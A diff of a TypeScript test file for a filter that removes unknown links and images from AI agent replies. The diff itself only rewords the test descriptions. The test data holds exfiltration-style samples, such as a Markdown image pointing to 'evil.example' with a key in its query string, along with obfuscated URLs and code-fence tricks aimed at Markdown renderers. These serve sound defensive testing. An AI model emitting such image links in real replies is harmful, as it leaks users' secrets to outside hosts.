@@ -14,8 +14,8 @@ function rewrite(reply: string | readonly string[]): string {
   return [reply].flat().map(filter.add).join('') + filter.end();
 }
 
-describe('addresses in a reply', () => {
-  it('lose what would make a link or an image of them, unless they are known', () => {
+describe('URLs in a reply', () => {
+  it('are changed so that they are no links or images, unless they are known', () => {
     for (const [said, shown] of [
       ['See ![a chart](https://evil.example/?d=key).', 'See ! [a chart] (link removed).'],
       [`![chart](${known})`, `! [chart](${known})`],
@@ -56,7 +56,7 @@ describe('addresses in a reply', () => {
     }
   });
 
-  it('stay if they are known, and so do texts without addresses and closed blocks of code', () => {
+  it('stay if they are known, and replies without URLs and closed code blocks stay unchanged', () => {
     for (const text of [
       `[Rates](${known} "of 2026") apply`,
       `([Rates](${known})). **[a](${known})**:`,
@@ -72,7 +72,7 @@ describe('addresses in a reply', () => {
     }
   });
 
-  it('are removed behind a fence that readers close in different places, or draw', () => {
+  it('are removed after a code fence that Markdown renderers close in different places', () => {
     for (const before of [
       ...[' ```\n```\n', '- ```\n```\n', '$$\n```\n$$\n', '``` a`b\n', '```mermaid\n', '~~~ {.plantuml}\n'],
       ...['```merm&#97;id\n', '```merm\\aid\n', '``` {#chart .mermaid}\n', '``` js title="a" mermaid\n'],
@@ -84,7 +84,7 @@ describe('addresses in a reply', () => {
     }
   });
 
-  it('hold back only text that may become one', () => {
+  it('delay only streamed text that may become a URL', () => {
     const filter = createLinkFilter(new Set([known]));
     const pieces = 'The month|ly rate is h|igh: |http|s://evil.example|/key| and| [a]|(x| y'.split('|');
     const shown = 'The month|ly rate is |high: ||||(link removed) and| [a||] (x y'.split('|');
@@ -93,7 +93,7 @@ describe('addresses in a reply', () => {
     expect(filter.removedCount()).equal(1);
   });
 
-  it('are extracted from texts in the form in which a reply may repeat them', () => {
+  it('are known from texts in the form in which a reply may repeat them', () => {
     for (const [text, urls] of [
       [`See (${known}), www.bank.example. Mail mailto:a@b.example!`, [known, 'www.bank.example', 'mailto:a@b.example']],
       [
@@ -107,7 +107,7 @@ describe('addresses in a reply', () => {
     expect(removeLinks('Loans at [us](https://evil.example) https://evil.example/a now')).equal('Loans at [us]   now');
   });
 
-  it('may be opened by a tool if a text of user or agent has exactly them', () => {
+  it('may be opened by a tool only if exactly these URLs are in a text of the user or the agent', () => {
     const texts = [
       'You help with https://bank.example/rates?year=2026.',
       'See (example.com/pricing), [the page](https://wiki.example/Loan_(finance)) and "www.bank.example".',
@@ -132,13 +132,13 @@ describe('addresses in a reply', () => {
   });
 });
 
-describe('addresses in long runs', () => {
+describe('URLs in very long texts', () => {
   const inPieces = (text: string, size: number) => text.match(new RegExp(`[^]{1,${size}}`, 'g')) ?? [];
 
   // Quadratic work on any of these does not end within the runner's time limit.
   const length = 1_000_000;
 
-  it('take linear time in a reply and in the texts that it may repeat', () => {
+  it('take linear time in a reply and in the texts that a reply may repeat', () => {
     for (const run of ['![', '](a', '](a "', ']:', '[1]:', 'www.', 'https://', '.', '`', '1234', '\n```\n']) {
       const text = `https:// https://${run.repeat(length / run.length)}a`;
       for (const part of [text.slice(9), text.slice(17)]) expect(rewrite(part).length).at.least(1);
@@ -146,7 +146,7 @@ describe('addresses in long runs', () => {
     }
   });
 
-  it('take linear time in small pieces', () => {
+  it('take linear time in a stream of small pieces', () => {
     for (const [start, run] of [
       ['https://', 'a'],
       ['[a](b', 'c'],
@@ -157,7 +157,7 @@ describe('addresses in long runs', () => {
     }
   });
 
-  it('are not held back for ever', () => {
+  it('are not held back forever in a stream', () => {
     for (const run of ['3.14159265358979 ', '2026-11-22 ', '-', '`', 'https://', '[a](b', '[a](b "c', ' ', '> ']) {
       const filter = createLinkFilter(new Set());
       const text = run.repeat(Math.ceil(2_500 / run.length)).slice(0, 2_500);
@@ -166,7 +166,7 @@ describe('addresses in long runs', () => {
   });
 });
 
-describe('addresses in any reply', () => {
+describe('URLs in random replies', () => {
   const part = fc.constantFrom(
     ...['https://evil.example/', known, other, `](${known} "`, '")', 'www.evil.example', 'mailto:', 'h', 'http'],
     ...['s:', '//', '&#104;ttps://x.example', '![', '!', '[', ']', '](', '(', ')', ']:', ':', '<', '>', '](<'],
@@ -180,7 +180,7 @@ describe('addresses in any reply', () => {
     .chain(({ sign, more }) => fc.constantFrom(190, 2_040, 2_290).map((length) => sign.repeat(length + more)));
   const partOrRun = fc.oneof({ arbitrary: part, weight: 30 }, { arbitrary: longRun, weight: 1 });
 
-  it('are the same however the text is split', () => {
+  it('do not depend on how the stream is split', () => {
     fc.assert(
       fc.property(fc.array(partOrRun, { maxLength: 30 }), fc.array(fc.nat({ max: 200 })), (text, cuts) => {
         const whole = text.join('');
@@ -194,7 +194,7 @@ describe('addresses in any reply', () => {
     );
   });
 
-  it('are fetched by no reader of Markdown, and lead only to known URLs', () => {
+  it('are loaded by no Markdown renderer, and become links only if they are known', () => {
     fc.assert(
       fc.property(parts, (text) => {
         const html = marked.parse(rewrite(text.join('')), { async: false, gfm: true });
